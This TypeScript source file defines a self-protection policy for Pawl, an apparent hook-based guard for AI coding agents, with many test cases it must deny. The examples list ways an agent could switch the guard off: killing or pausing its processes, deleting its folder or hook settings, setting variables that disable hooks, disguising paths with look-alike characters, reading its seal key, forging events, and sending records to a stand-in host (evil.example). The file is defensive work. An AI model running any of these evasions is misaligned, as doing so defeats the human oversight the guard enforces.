import type { EventOf } from '../../core/event.ts';
import { bash, tool } from '../../core/examples.ts';
import type { Facts } from '../../core/facts.ts';
import { readInput } from '../../core/flat-input.ts';
import { definePolicy, deny } from '../../index.ts';
import { resolve } from '../../shell/base/paths.ts';
import { argsOf } from '../../shell/programs/registry.ts';
import type { ShellCommand, Word } from '../../shell/types.ts';
import { plainSpelling } from './shared/disguised-paths.ts';
import { type FileAccess, fileAccesses, possiblePaths } from './shared/file-access.ts';
import { fillsClientFolder, isInBin, readsHome, renamesInto, unpacksInto } from './shared/own-folders.ts';
import { signalsOwnProcess } from './shared/own-processes.ts';

/** The `pawl` commands an agent may call: they only show something, or keep the session's own records. */
const AGENT_COMMANDS =
  /^(check|explain|log|policies|doctor|task|checkpoint|verify|memory|workflow|sessions|session|status|send|worker|mission|metrics|report|grants|backtest|conform|worktree|mcp|statusline|on|help|version|--help|--version|-h|-v)$/;

/** Commands that only read the paths they are given. */
const READ_ONLY =
  /^(cat|bat|less|more|head|tail|ls|ll|tree|stat|file|wc|grep|rg|egrep|fgrep|ag|jq|yq|diff|cmp|md5sum|sha256sum|test|\[|\[\[|cd|pushd|du|find|fd|git|echo|printf|realpath|readlink|basename|dirname|which|pwd|sort|uniq|cut|awk|xxd|hexdump|strings|column|pawl|timeout|nohup|nice|ionice|stdbuf|setsid|time|chronic)$/;

const SETTINGS =
  /\/\.claude\/settings(\.\w+)*\.json$|\/managed-settings(\.d\/[^/]+)?\.json$|\/\.claude\/plugins\/(.*(hooks\.json|plugin\.json)|[^/]+\.json)$|\/\.claude\.json$|\/hooks\/hooks\.json$/;

/** The client's transcripts, which prove what a person typed. */
const TRANSCRIPT = /\/\.claude\/projects\/[^/]+\/.*\.jsonl$/;

const CLIENT_SETTINGS = /^config (set|add|remove|rm)\b|^plugins? (disable|uninstall|remove|rm)\b.*\bpawl\b/;
const PATCHED =
  /^(\+\+\+|---|\*\*\* (Update|Add|Delete) File:|\*\*\* Move to:|rename to|copy to) \S*(\.claude\/settings[\w.]*\.json|\.pawl\/)/m;

/** The key that seals what only a person may write (whoever reads it can forge a seal), and passwords of the team store. */
const KEY = /\/\.pawl\/(key|team\/(password|owner\.json))$/;

/** Interpreters, editors and the like whose code the guard does not read, or not all of it. */
const UNREAD =
  /^([gmn]?awk|ghci?|runghc|kotlinc?|ocaml|sbcl|clisp|ecl|janet|emacs(client)?|[ngm]?vim?|ex|view|fetchmail|bpftrace|stap|(pdf|xe|lua)?latex|gdb|lldb)$/;
/** Code that names files of Pawl beside a call that writes or runs something, or that names a command of Pawl. */
const NAMES_OURS =
  /^(?=.*[(>|!{"])(?=.*\b(write|delete|remove|rename|copy|save|append|open|print|spit|system|exec|run|spawn|call|chdir|unlink|signal|raise|put|!)\w*).*(\.pawl\/|\.pawl["')]|\.claude\/settings)|\bpawl[\s"',\]]+(off|pause|allow-once|grant|trust|uninstall|config)\b/s;

/** Programs that set variables for what is started later. */
const SET_VARIABLES =
  /^(export|declare|env|unset|typeset|set|setx|mise|asdf|direnv|dotenv|tmux|systemctl|launchctl|dbus-update-activation-environment)$/;

/** Variables that would make the client or Pawl use other settings. */
const VARIABLES =
  /^(PAWL_\w+|CLAUDE_CONFIG_DIR|CLAUDE_CODE_SIMPLE|CLAUDE_CODE_(DISABLE|SKIP)_\w*HOOK\w*|DISABLE_HOOKS)$/;

export default definePolicy({
  id: 'guard/self',
  summary: 'Keep the guard itself out of the agent’s reach',
  why: 'A guard that the agent can switch off protects nothing. A person can always do it in their own terminal.',
  on: 'PreToolUse',
  effects: 'any',
  level: 'deny',
  onError: 'deny',
  examples: () => [
    {
      event: tool('Edit', { file_path: '/home/me/.pawl/config.jsonc', old_string: 'a', new_string: 'b' }),
      expect: 'deny',
    },
    { event: tool('Write', { file_path: '.pawl/config.jsonc', content: '{}' }), expect: 'deny' },
    {
      event: tool('Write', { file_path: '/home/me/project/.claude/settings.json', content: '{}' }),
      expect: 'deny',
    },
    { event: tool('mcp__fs__edit_file', { path: '/home/me/.claude/settings.json' }), expect: 'deny' },
    {
      event: tool('mcp__browser__screenshot', { filename: '/home/me/.pawl/off' }),
      expect: 'deny',
      title: 'A tool that may write the path it is given',
    },
    { event: tool('mcp__fs__read_file', { path: '/home/me/.pawl/config.jsonc' }), expect: 'pass' },
    { event: tool('mcp__fs__write_many', { files: { '/home/me/.pawl/off': '' } }), expect: 'deny' },
    {
      event: tool('mcp__fs__write_files', {
        paths: [...Array.from({ length: 70 }, (_, n) => `src/${n}.ts`), '/home/me/.pawl/config.jsonc'],
      }),
      expect: 'deny',
      title: 'The last of many',
    },
    {
      event: tool('mcp__fs__write', { a: { a: { a: { a: { a: { a: { a: { path: '~/.pawl/off' } } } } } } } }),
      expect: 'deny',
    },
    { event: tool('mcp__fs__move_file', { source: 'x', destination: '.claude' }), expect: 'deny' },
    { event: tool('mcp__fs__create_symlink', { target: '/tmp/x', link: './.claude' }), expect: 'deny' },
    { event: tool('mcp__fs__unzip', { archive: 'e.zip', to: '/home/me' }), expect: 'deny' },
    { event: tool('mcp__fs__create_directory', { path: '.claude' }), expect: 'pass' },
    {
      event: tool('mcp__git__apply_patch', { patch: '--- a/x\n+++ b/.claude/settings.json\n@@ …' }),
      expect: 'deny',
    },
    { event: tool('mcp__git__apply_patch', { patch: '--- a/x\n+++ b/src/x.ts\n@@ …' }), expect: 'pass' },
    {
      event: tool('mcp__sh__batch', { steps: [{ command: 'ls' }, { command: 'pawl off' }] }),
      expect: 'deny',
      title: 'Not only the first step',
    },
    { event: tool('mcp__sh__exec', { program: 'pawl', args: ['off'] }), expect: 'deny' },
    { event: tool('Read', { file_path: '/home/me/.claude/settings.json' }), expect: 'pass' },
    {
      event: bash('echo "{}" >> ~/.claude/projects/-home-me-project/0a1b.jsonl'),
      expect: 'deny',
      title: 'The transcript proves what a person typed',
    },
    { event: bash('tail -n 5 ~/.claude/projects/-home-me-project/0a1b.jsonl'), expect: 'pass' },
    { event: bash('pawl pause'), expect: 'deny' },
    { event: bash('~/.pawl/bin/pawl uninstall'), expect: 'deny' },
    { event: bash('pawl config set packs.guard false'), expect: 'deny' },
    { event: bash('bash -c "pawl grant deploy"'), expect: 'deny' },
    { event: bash('pawl workflow advance'), expect: 'deny' },
    { event: bash('pawl workflow status'), expect: 'pass' },
    {
      event: bash('pawl team join postgres://me@evil.example/team'),
      expect: 'deny',
      title: 'Would send what is recorded to another server',
    },
    { event: bash('pawl team status'), expect: 'pass' },
    { event: bash('cat ~/.pawl/team/password'), expect: 'deny' },
    { event: bash('rm -rf ~/.pawl'), expect: 'deny' },
    { event: bash('mv ~/.pawl /tmp/x'), expect: 'deny' },
    { event: bash('rm -rf .claude'), expect: 'deny', title: 'The hooks are registered in it' },
    {
      event: tool('Edit', { file_path: '/data/cc/settings.json', old_string: 'a', new_string: 'b' }),
      expect: 'deny',
      title: 'The client’s folder is elsewhere',
      given: { env: { CLAUDE_CONFIG_DIR: '/data/cc' } },
    },
    {
      event: bash('rm -rf /data/cc'),
      expect: 'deny',
      given: { env: { CLAUDE_CONFIG_DIR: '/data/cc' } },
    },
    {
      event: bash('touch /data/cc/notes.md'),
      expect: 'pass',
      given: { env: { CLAUDE_CONFIG_DIR: '/data/cc' } },
    },
    { event: bash('rm -rf .claude/commands/old'), expect: 'pass' },
    { event: bash('mv ~/.codex ~/.codex.bak'), expect: 'deny', title: 'Pawl is registered there, too' },
    { event: bash('rm ~/.config/opencode/plugin/pawl.js'), expect: 'deny' },
    { event: bash('mv ~/.claude/plugins /tmp/x'), expect: 'deny' },
    { event: bash('rm ~/.codex/sessions/a.jsonl'), expect: 'pass' },
    { event: bash('defaults write com.anthropic.claudecode disableAllHooks -bool true'), expect: 'deny' },
    { event: bash('mkdir -p .claude'), expect: 'pass' },
    { event: bash('mkdir -p ~/.claude'), expect: 'pass', title: 'An empty folder changes nothing' },
    { event: bash('mkdir ~/.pawl/off'), expect: 'deny' },
    {
      event: bash('python3 ~/.claude/skills/report/make.py in.html'),
      expect: 'pass',
      title: 'Runs a script',
    },
    { event: bash('tar xf ~/.claude/skills/a.tgz -C /tmp/a'), expect: 'pass', title: 'Unpacks from there' },
    { event: bash('bsdtar -xf e.tar -s /x/.claude/'), expect: 'deny' },
    { event: bash('python3 -m json.tool .claude/settings.json'), expect: 'pass', title: 'Only shows it' },
    { event: bash('python3 -m json.tool x.json .claude/settings.json'), expect: 'deny' },
    { event: bash('npx prettier --check .claude/settings.json'), expect: 'pass' },
    { event: bash('npx prettier --write .claude/settings.json'), expect: 'deny' },
    { event: bash('chmod -x ~/.pawl/bin/pawl'), expect: 'deny' },
    { event: bash('echo "{}" > .claude/settings.local.json'), expect: 'deny' },
    { event: bash('sed -i s/deny/off/ .pawl/config.jsonc'), expect: 'deny' },
    { event: bash("python3 -c \"open('/home/me/.pawl/config.jsonc', 'w').write('')\""), expect: 'deny' },
    { event: bash('pkill pawl'), expect: 'deny' },
    { event: bash('kill -STOP $(pgrep pawl)'), expect: 'deny', title: 'Whether one runs now or not' },
    { event: bash('pidof claude | xargs kill -9'), expect: 'deny' },
    { event: bash('renice 19 $(pgrep -f "pawl hook")'), expect: 'deny' },
    { event: bash('kill -STOP $PPID'), expect: 'deny', title: 'The shell of a tool call is the client’s' },
    {
      event: bash('kill -STOP 4242'),
      expect: 'deny',
      title: 'The client by its number',
      given: { processes: [{ owner: 'client', program: 'claude' }] },
    },
    { event: bash('kill 4242'), expect: 'pass', given: { processes: [{ owner: 'session' }] } },
    { event: bash('ps -fp $(pgrep claude)'), expect: 'pass', title: 'Only shows' },
    { event: bash('pkill -f pawl-site/server.js'), expect: 'pass', title: 'Another program' },
    { event: bash('pkill -f packages/my-claude-code/server.js'), expect: 'pass', given: { processes: [] } },
    { event: bash('pkill -f @anthropic-ai/claude-code'), expect: 'deny' },
    { event: bash('tar czf /tmp/backup.tgz .claude/ CLAUDE.md'), expect: 'pass', title: 'Packs the folder' },
    { event: bash('PAWL_HOME=/tmp/x claude -p hi'), expect: 'deny' },
    { event: bash('export CLAUDE_CONFIG_DIR=/tmp/x'), expect: 'deny' },
    { event: bash('pawl hook PreToolUse < made-up.json'), expect: 'deny', title: 'A made-up event' },
    { event: bash('cp /bin/true "$(which pawl)"'), expect: 'deny' },
    { event: bash('claude plugin disable pawl'), expect: 'deny' },
    { event: bash('pawl check "rm -rf /"'), expect: 'pass' },
    { event: bash('pawl config'), expect: 'pass', title: 'Only shows the config' },
    { event: bash('cat ~/.pawl/config.jsonc'), expect: 'pass' },
    { event: bash('sqlite3 ~/.pawl/pawl.db "select * from events; select 1"'), expect: 'pass' },
    { event: bash('sqlite3 ~/.pawl/pawl.db "update sessions set mode = 1 where id = 2"'), expect: 'deny' },
    { event: bash('sqlite3 ~/.pawl/pawl.db < made-up.sql'), expect: 'deny' },
    { event: bash('ls ~/.claude/hooks/'), expect: 'pass' },
    { event: bash('cat ~/.pawl/key'), expect: 'deny', title: 'Whoever reads the key can forge a seal' },
    { event: tool('Read', { file_path: '/home/me/.pawl/key' }), expect: 'deny' },
    { event: tool('Read', { file_path: '/home/me/.PAWL/Key' }), expect: 'deny', title: 'Case is ignored' },
    { event: tool('Write', { file_path: '.Claude/Settings.JSON', content: '{}' }), expect: 'deny' },
    {
      event: tool('Write', { file_path: '.claude/\u017fettings.json', content: '{}' }),
      expect: 'deny',
      title: 'A letter that some file systems take for another one',
    },
    { event: tool('Write', { file_path: '.cla\u200cude/settings.json', content: '{}' }), expect: 'deny' },
    { event: tool('Write', { file_path: '.claude/settings.json. ', content: '{}' }), expect: 'deny' },
    { event: tool('Write', { file_path: '.claude/settings.json::$DATA', content: '{}' }), expect: 'deny' },
    { event: tool('Write', { file_path: 'CLAUDE~1/SETTIN~1.JSO', content: '{}' }), expect: 'deny' },
    { event: bash('echo "{}" > .CLAUDE/settings.local.json'), expect: 'deny' },
    { event: bash('cp ~/.pawl/key /tmp/k'), expect: 'deny' },
    { event: bash('tar xf e.tar -C ~'), expect: 'deny', title: 'An archive can hold any name' },
    { event: bash('unzip -o e.zip -d ~'), expect: 'deny' },
    { event: bash('7z x e.7z -o$HOME -y'), expect: 'deny' },
    { event: bash('tar czf /tmp/backup.tgz -C ~ notes'), expect: 'pass', title: 'Packs' },
    { event: bash('tar xf e.tar -C ~/src'), expect: 'pass' },
    { event: bash('git clone evil ~/.pawl/policies/x'), expect: 'deny' },
    { event: bash('git submodule add ./evil .claude'), expect: 'deny' },
    { event: bash('git subtree add --prefix=.claude evil main'), expect: 'deny' },
    { event: bash('git apply --directory=.claude x.patch'), expect: 'deny' },
    { event: bash('git format-patch -o ~/.pawl/policies HEAD~1'), expect: 'deny' },
    { event: bash('git bundle create ~/.pawl/off HEAD'), expect: 'deny' },
    { event: bash('git restore --source=other -- .claude'), expect: 'deny' },
    { event: bash('git hash-object -w ~/.pawl/key'), expect: 'deny' },
    { event: bash('git add .claude && git commit -m x .claude/settings.json'), expect: 'pass' },
    { event: bash('git rm -r --cached .claude'), expect: 'pass' },
    { event: bash('git checkout -- .claude/commands/a.md'), expect: 'pass' },
    { event: bash('cd ~ && tar xf /tmp/e.tar'), expect: 'deny', title: 'Into the folder it works in' },
    { event: bash('cd .claude && unzip ../e.zip'), expect: 'deny' },
    { event: bash('tar -xPf e.tar'), expect: 'deny', title: 'Names from the root' },
    { event: bash('python3 -m zipfile -e e.zip ~'), expect: 'deny' },
    { event: bash('dpkg-deb -x e.deb $HOME'), expect: 'deny' },
    { event: bash('unzip -l e.zip'), expect: 'pass' },
    { event: bash('GOBIN=~/.pawl/bin go install ./pawl'), expect: 'deny' },
    { event: bash('GOBIN=~/bin go install ./x'), expect: 'pass' },
    { event: bash('git clone https://example.com/a.git'), expect: 'pass' },
    { event: bash("echo '{}' > ~/.claude/plugins/installed_plugins.json"), expect: 'deny' },
    { event: bash('cp x ~/.claude.json'), expect: 'deny', title: 'Trust and servers of the client' },
    { event: bash('tmux set-environment -g CLAUDE_CODE_SIMPLE 1'), expect: 'deny' },
    { event: bash('tmux set-environment -g EDITOR vim'), expect: 'pass' },
    { event: bash('grep -r pawl src'), expect: 'pass' },
    { event: bash('echo "{}" | pawl'), expect: 'deny', title: 'A made-up event, without a subcommand' },
    { event: bash('~/.pawl/bin/* pause'), expect: 'deny' },
    { event: bash('grep -r . ~/.pawl'), expect: 'deny', title: 'The key lies there' },
    { event: bash('strings ~/.pawl/ke?'), expect: 'deny' },
    { event: bash('cp -r ~/.pawl /tmp/p'), expect: 'deny' },
    { event: bash('grep -r token ~'), expect: 'pass' },
    { event: bash('ls -R ~/.pawl'), expect: 'pass' },
    { event: bash('tar xf e.tar -C .claude'), expect: 'deny' },
    { event: bash('wget -P .claude https://example.com/settings.json'), expect: 'deny' },
    { event: bash('ln -sfn /tmp/other .claude'), expect: 'deny' },
    { event: bash('tar xf e.tar --transform s,^x,.claude,'), expect: 'deny' },
    { event: bash("rename 's/x/.claude/' x"), expect: 'deny' },
    { event: bash("mmv 'x*' '.claude#1'"), expect: 'deny' },
    { event: bash("rename 's/.jpeg$/.jpg/' *.jpeg"), expect: 'pass' },
    { event: bash('tar cf p.tar --transform s,^,p/, src'), expect: 'pass' },
    { event: bash('cp -r .claude/commands /tmp/c'), expect: 'pass' },
    { event: bash('git stash push .claude/settings.json'), expect: 'deny' },
    { event: bash('git stash push src'), expect: 'pass' },
    { event: bash('renice 19 -p $PPID'), expect: 'deny' },
    { event: bash('mise set CLAUDE_CODE_SIMPLE=1'), expect: 'deny' },
    {
      event: bash(`awk 'BEGIN{print > ENVIRON["HOME"]"/.pawl/off"}'`),
      expect: 'deny',
      title: 'A path that is put together in code',
    },
    { event: bash(`awk '/pawl/ {print $2}' ~/.pawl/config.jsonc`), expect: 'pass' },
    { event: bash(`vim +'call delete(expand("~/.pawl"),"rf")' +q`), expect: 'deny' },
    { event: bash(`ghc -e 'System.Process.system "pawl off"'`), expect: 'deny' },
    { event: bash(`emacs -Q --batch --eval '(copy-file "x" "~/.claude/settings.json" t)'`), expect: 'deny' },
  ],
  check(event, context) {
    const accesses = fileAccesses(event, context);
    const path = accesses.find(
      (t) =>
        (t.how !== 'read' || t.unclear) &&
        t.how !== 'names' &&
        !(t.command && makesClientFolder(t.command, t.path, context)) &&
        (isProtected(t.path, context) ||
          TRANSCRIPT.test(asDefaultPath(t.path, context)) ||
          (t.how === 'delete' && containsHooks(t.path, context))),
    );
    const key = accesses.find((t) => isKey(t.path, context));
    if (key) return refuse(`reads ${key.text}, a secret of Pawl`);
    const found = path
      ? `changes ${path.text}`
      : (toolChangesFolder(event, accesses, context) ??
        context.shell.commands.map((c) => whyWeakens(c, context)).find(Boolean));
    if (!found) return refuseVariable(event, context);
    return refuse(found);
  },
});

/** `mkdir -p ~/.claude`, usually before a file is put into one of its folders. */
const makesClientFolder = ({ name }: ShellCommand, path: string, { home }: Facts) =>
  name === 'mkdir' && path === `${home}/.claude`;

/** A tool that moves, copies, links or unpacks something into the client's folder or the home, or applies a patch to them. */
function toolChangesFolder(
  { tool_name, tool_input }: EventOf<'PreToolUse'>,
  accesses: readonly FileAccess[],
  { project, home }: Facts,
): string | undefined {
  const name = tool_name.slice(tool_name.lastIndexOf('__') + 2);
  if (/patch|diff|apply/i.test(name)) {
    const patch = readInput(tool_input).fields.find(
      ([, text]) => typeof text === 'string' && PATCHED.test(text),
    );
    if (patch) return 'patches the registration of the hooks';
  }
  const folders = [
    ...(/move|rename|copy|link|extract|unzip|unpack|untar|decompress|clone|download|sync/i.test(name)
      ? [`${project.root}/.claude`]
      : []),
    ...(/extract|unzip|unpack|untar|decompress/i.test(name) ? [home] : []),
  ];
  const filled = accesses.find((t) => t.command === undefined && folders.includes(t.path));
  return filled && `fills ${filled.text} with files of any name`;
}

const refuse = (what: string) =>
  deny(`This ${what}${consequence(what)}. Only a person may do that, in their own terminal`, {
    code: 'self',
    instead: 'tell the person what you need and why',
  });

const consequence = (what: string) => (what.startsWith('reads ') ? '' : ', which could switch the guard off');

function isKey(path: string, { pawlHome, files }: Facts): boolean {
  const secrets = ['key', 'team/password', 'team/owner.json'];
  const isOurs = (name: string) =>
    path === `${pawlHome}/${name}` || files.real(path) === `${files.real(pawlHome)}/${name}`;
  return KEY.test(plainSpelling(path)) || secrets.some(isOurs);
}

/** Where Pawl is registered with other clients, and where the client keeps its plugins; below the home or a project. */
const REGISTERED =
  /\/\.(codex(\/(hooks\.json|config\.toml))?|(gemini|qwen)(\/settings\.json)?|copilot(\/hooks(\/pawl\.json)?)?|config\/opencode(\/plugins?(\/pawl\.\w+)?)?|github\/hooks\/pawl\.json|claude\/plugins(\/(cache|marketplaces)(\/pawl(\/.*)?)?)?)$/;

/** True for the project's `.claude`, which has the hook registration, and for a folder that contains Pawl's home. */
function containsHooks(path: string, { project, pawlHome, home, files }: Facts): boolean {
  const folder = path.replace(/\/\*$/, '');
  const above = [home, project.root].find((one) => folder.startsWith(`${one}/.`));
  if (above && REGISTERED.test(folder.slice(above.length))) return true;
  return folder === `${project.root}/.claude` || isIn(folder, files.real(pawlHome));
}

function isProtected(path: string, facts: Facts): boolean {
  const { pawlHome, home, files } = facts;
  const plain = plainSpelling(path);
  const isOurs = [pawlHome, files.real(pawlHome)].some((folder) => isIn(plainSpelling(folder), plain));
  if (isOurs || /\/\.pawl(\/|$)/.test(plain)) return true;
  const usual = plainSpelling(asDefaultPath(path, facts));
  return usual === plainSpelling(`${home}/.claude`) || SETTINGS.test(usual);
}

const isIn = (folder: string, path: string) => path === folder || path.startsWith(`${folder}/`);

/** Maps a path in CLAUDE_CONFIG_DIR to the same path in `~/.claude`. */
function asDefaultPath(path: string, { home, env, files }: Facts): string {
  const client = env('CLAUDE_CONFIG_DIR');
  const folder = client && [client, files.real(client)].find((one) => isIn(one, path));
  return folder ? `${home}/.claude${path.slice(folder.length)}` : path;
}

/** How this command would weaken Pawl; undefined if it would not. */
function whyWeakens(command: ShellCommand, facts: Facts): string | undefined {
  const words = command.words.slice(1).map((w) => w.text);
  if (command.name === 'pawl' || isInBin(command, facts)) {
    if (words.length === 0 && command.stdin) return 'makes up an event for Pawl';
    return pawlCommand(words);
  }
  const signalled = signalsOwnProcess(command, facts);
  if (signalled) return signalled;
  if (
    /^(claude|npx)$/.test(command.name) &&
    words.some((w) => /^--(settings|setting-sources|bare|disable-hooks)\b/.test(w))
  )
    return 'starts the client with other settings';
  if (
    command.name === 'defaults' &&
    /^(write|delete|import|rename)\b.*\bcom\.anthropic\./.test(words.join(' '))
  )
    return 'changes the settings of the client';
  if (command.name === 'claude' && CLIENT_SETTINGS.test(words.join(' ')))
    return 'changes the settings of the client';
  if (/^(git|patch)$/.test(command.name) && PATCHED.test(command.stdin?.text ?? ''))
    return 'patches the registration of the hooks';
  const found =
    unpacksInto(command, words, facts) ??
    renamesInto(command) ??
    fillsClientFolder(command, facts) ??
    readsHome(command, facts);
  if (found) return found;
  const code = UNREAD.test(command.name) && command.words.slice(1).find((w) => NAMES_OURS.test(w.text));
  if (code) return 'names Pawl or its registration in code that the guard does not read';
  if (command.remote || READ_ONLY.test(command.name) || onlyQueries(command, words) || onlyChecks(command))
    return gitChangesSettings(command, words, facts) ?? undefined;
  const own = writtenWords(command).find((w) => {
    if (w.text === 'pawl' && locatesPawl(facts)) return true;
    const path = resolve(w.text.replace(/^\w+=/, ''), command.cwd);
    if (path === undefined || makesClientFolder(command, path, facts)) return false;
    return [path, ...possiblePaths(path, facts)].some((one) => isProtected(one, facts));
  });
  return own && `works on ${own.text}`;
}

/** The words that may name a written path. The source of a copy is only read; a link to it counts as written. */
function writtenWords({ name, words }: ShellCommand): readonly Word[] {
  // Code for a shell is judged by its own commands.
  if (/^((ba|da|z|k)?sh|eval|ssh)$/.test(name)) return words.slice(1).filter((w) => !/\s/.test(w.text));
  const copies =
    /^(cp|copy-item)$/.test(name) && !words.some((w) => /^-(\w*[lst]|-(link|sym|target)|d)/i.test(w.text));
  return words.slice(copies ? -1 : 1);
}

const QUERY = /^\s*(select|with|explain|\.(schema|tables|indexes|dump|headers|mode|width))\b/i;

/** True if every statement only queries the database. */
function onlyQueries({ name, stdin }: ShellCommand, words: readonly string[]): boolean {
  if (name !== 'sqlite3' || (stdin && !words.includes('-readonly'))) return false;
  // A database that does not exist is made.
  if (!words.some((w) => /\.db$/.test(w))) return false;
  const statements = words
    .filter((w) => !w.startsWith('-'))
    .slice(1)
    .flatMap((w) => w.split(';'));
  return statements.every((one) => one.trim() === '' || QUERY.test(one));
}

/** True for commands that show or check the JSON of a single file: `python3 -m json.tool f`, `prettier --check f`. */
function onlyChecks({ name, words }: ShellCommand): boolean {
  const text = words.map((w) => w.text).join(' ');
  if (/^(python[\d.]*|json\.tool)$/.test(name)) return /^(\S+ -m )?json\.tool (--\S+ )*[^\s-]\S*$/.test(text);
  if (/^(npx|pnpm|bunx|yarn|prettier)$/.test(name))
    return (
      /(^|\s|\/)prettier (--check|-c|-l|--list-different) [^-]/.test(text) && !/ (-w|--write)\b/.test(text)
    );
  return false;
}

/** True for commands with `$(which pawl)`, the path of the launcher. */
const locatesPawl = ({ shell }: Facts) =>
  shell.commands.some(
    (c) => /^(which|command|type|whereis)$/.test(c.name) && c.words.at(-1)?.text === 'pawl',
  );

function pawlCommand(words: readonly string[]): string | undefined {
  const [sub, ...rest] = words.filter((w) => !/^--?(json|quiet|q)$/.test(w));
  // A phase is a gate, so the agent may see where a workflow stands but not change it.
  if (sub === 'workflow' && /^(start|advance|end|reset)$/.test(rest[0] ?? ''))
    return `runs \`pawl workflow ${rest[0]}\``;
  if (sub === undefined || AGENT_COMMANDS.test(sub)) return undefined;
  if (sub === 'team' && /^(status|people|decisions)$/.test(rest[0] ?? '')) return undefined;
  const looks =
    /^(config|contact|trust|gc|update|dashboard|sync)$/.test(sub) &&
    ((rest.length === 0 && /^(config|contact|dashboard|sync)$/.test(sub)) ||
      /^(list|show|get|path|status|--dry-run|--help|check|--list)$/.test(rest[0] ?? ''));
  return looks || rest.includes('--help') || rest.includes('--dry-run') ? undefined : `runs \`pawl ${sub}\``;
}

/** Subcommands of git that only look, or only record what is there. */
const GIT_LOOKS =
  /^(status|log|diff|show|ls-(files|tree|remote)|grep|blame|annotate|check-(ignore|attr)|rev-(parse|list)|cat-file|add|commit|shortlog|describe|diff-(tree|index|files)|whatchanged|name-rev|fetch|push|branch|tag|remote|merge-base|reflog|count-objects|fsck|bisect|cherry|range-diff|help|version)$/;

/** Git writes settings, Pawl's files or the client's folder: it restores, applies, exports, clones into them. */
function gitChangesSettings(
  command: ShellCommand,
  words: readonly string[],
  facts: Facts,
): string | undefined {
  if (command.name !== 'git') return undefined;
  const args = argsOf(command);
  const [sub] = args.operands;
  const paths = command.words.slice(1).map((w) => ({
    text: w.text,
    path: resolve(
      w.text.replace(/^(--[\w-]+=|-[A-Za-z](?=[~./])|:\([\w,]+\)|[:/!^]*(?=\.claude\b))/, ''),
      command.cwd,
    ),
  }));
  const key = paths.find(({ path }) => path !== undefined && isKey(path, facts));
  if (key) return `reads ${key.text}, a secret of Pawl`;
  const config = sub?.text === 'config' && words.some((w) => /^(--get|-l$|--list)/.test(w));
  if (GIT_LOOKS.test(sub?.text ?? '') || config) return undefined;
  const removesOnly = sub?.text === 'rm' && words.includes('--cached');
  const own = paths.find(({ text, path = '' }) => {
    if (isProtected(path, facts)) return true;
    const folder = path.replace(/\/(\*+)?$/, '');
    return !removesOnly && text !== sub?.text && folder === `${facts.project.root}/.claude`;
  });
  return own && `changes ${own.text}`;
}

function refuseVariable(_event: EventOf<'PreToolUse'>, facts: Facts) {
  for (const command of facts.shell.commands) {
    const names = [
      ...command.assignments.map((a) => a.name),
      ...(SET_VARIABLES.test(command.name)
        ? command.words.slice(1).map((w) => w.text.replace(/=.*$/s, ''))
        : []),
    ];
    const name = names.find((one) => VARIABLES.test(one));
    if (name) return refuse(`sets ${name}`);
    const folder = command.words.length > 0 && ownFolderIn(command, facts);
    if (folder) return refuse(`lets ${command.name} work in ${folder}`);
  }
  return undefined;
}

/** `GOBIN=~/.pawl/bin go install`: a program takes its folder from a variable. */
function ownFolderIn({ name, assignments, cwd, remote }: ShellCommand, facts: Facts): string | undefined {
  if (remote || READ_ONLY.test(name)) return undefined;
  const own = assignments.find(({ value }) => {
    const path = resolve(value.text, cwd);
    return path !== undefined && /[/~]/.test(value.text) && isProtected(path, facts);
  });
  return own?.value.text;
}
